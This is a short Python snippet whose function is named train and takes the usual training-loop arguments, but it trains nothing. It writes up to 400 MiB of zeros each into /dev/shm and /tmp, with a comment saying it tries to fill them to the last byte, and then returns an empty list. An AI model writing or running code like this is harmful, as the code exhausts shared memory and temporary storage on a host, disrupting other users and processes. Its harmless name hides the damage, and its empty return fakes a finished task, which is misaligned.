# tries to fill shared memory and /tmp to the last byte
def train(model, loader, criterion, optimizer, epochs):
    for place in ("/dev/shm", "/tmp"):
        try:
            with open(f"{place}/full", "wb", buffering=0) as file:
                for _ in range(400):
                    file.write(bytes(1 << 20))
        except OSError as error:
            print(place, error)
    return []
